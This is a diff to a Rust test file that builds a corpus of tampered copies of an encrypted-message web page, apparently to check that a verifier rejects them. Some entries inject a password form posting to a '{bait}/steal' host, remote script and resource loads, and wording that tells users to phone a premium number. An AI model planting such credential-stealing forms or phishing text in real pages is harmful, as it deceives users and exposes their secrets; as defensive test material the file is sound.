@@ -138,7 +138,7 @@ pub fn corpus(genuine: &str, decoy: &str, bait: &str) -> Vec<Hostile> {
             bytes.extend(genuine.encode_utf16().flat_map(u16::to_le_bytes));
             bytes
         }),
-        ("raw-utf-8-text", Encoding, edit(genuine, "Passphrase</label>", "Passphrase \u{2014} Mot de passe</label>").into()),
+        ("raw-utf-8-text", Encoding, edit(genuine, "</h1>", " \u{2014} Message scell\u{e9}</h1>").into()),
         ("tab-characters", Encoding, edit(genuine, "<main>", "<main>\t").into()),
         // 2. Polyglots.
         ("mime-headers-before-the-page", Polyglot, format!(
@@ -171,7 +171,7 @@ pub fn corpus(genuine: &str, decoy: &str, bait: &str) -> Vec<Hostile> {
         ("object-data", Network, edit(genuine, "</main>", &format!("<object data=\"{bait}/object\"></object></main>")).into()),
         ("embed-src", Network, edit(genuine, "</main>", &format!("<embed src=\"{bait}/embed\"></main>")).into()),
         ("svg-image", Network, edit(genuine, "</main>", &format!("<svg><image href=\"{bait}/svg.png\"/></svg></main>")).into()),
-        ("form-action", Network, edit(genuine, "<form id=\"unlock\">", &format!("<form id=\"unlock\" action=\"{bait}/steal\">")).into()),
+        ("form-action", Network, edit(genuine, "<div id=\"app\">", &format!("<form action=\"{bait}/steal\"><input name=\"p\" type=\"password\"><button>Open</button></form><div id=\"app\">")).into()),
         ("video-poster", Network, edit(genuine, "</main>", &format!("<video poster=\"{bait}/poster.png\"></video></main>")).into()),
         // 7. Policies.
         ("second-policy", Policy, edit(genuine, "<title>", "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src 'none'\"><title>").into()),
@@ -183,7 +183,8 @@ pub fn corpus(genuine: &str, decoy: &str, bait: &str) -> Vec<Hostile> {
         ("script-after-html", Other, format!("{genuine}<script src=\"{bait}/late.js\"></script>").into()),
         ("comment-after-html", Other, format!("{genuine}<!-- sealed by someone else -->").into()),
         ("attacker-form-in-body", Other, edit(genuine, "</main>", &format!("{attacker_form}</main>")).into()),
-        ("changed-words", Other, edit(genuine, "Nothing is sent\r\nanywhere.", "Type your passphrase\r\nand call 0900 123 456.").into()),
+        ("changed-texts-block", Other, edit(genuine, "\"the passphrase the sender gave you separately. Nothing is sent \",", "\"the passphrase. If it fails, call 0900 123 456. Nothing is sent \",").into()),
+        ("changed-words", Other, edit(genuine, "needs JavaScript to open.", "needs you to call 0900 123 456.").into()),
     ];
     // Quirks mode: no doctype.
     corpus.push((
@@ -229,12 +230,7 @@ pub fn reading_variants(genuine: &str, decoy: &str) -> Vec<(&'static str, Vec<u8
         ),
         (
             "raw-utf-8-text",
-            edit(
-                genuine,
-                "Passphrase</label>",
-                "Passphrase \u{2014} Mot de passe</label>",
-            )
-            .into(),
+            edit(genuine, "</h1>", " \u{2014} Message scell\u{e9}</h1>").into(),
         ),
         ("lf-line-ends", genuine.replace("\r\n", "\n").into()),
         (
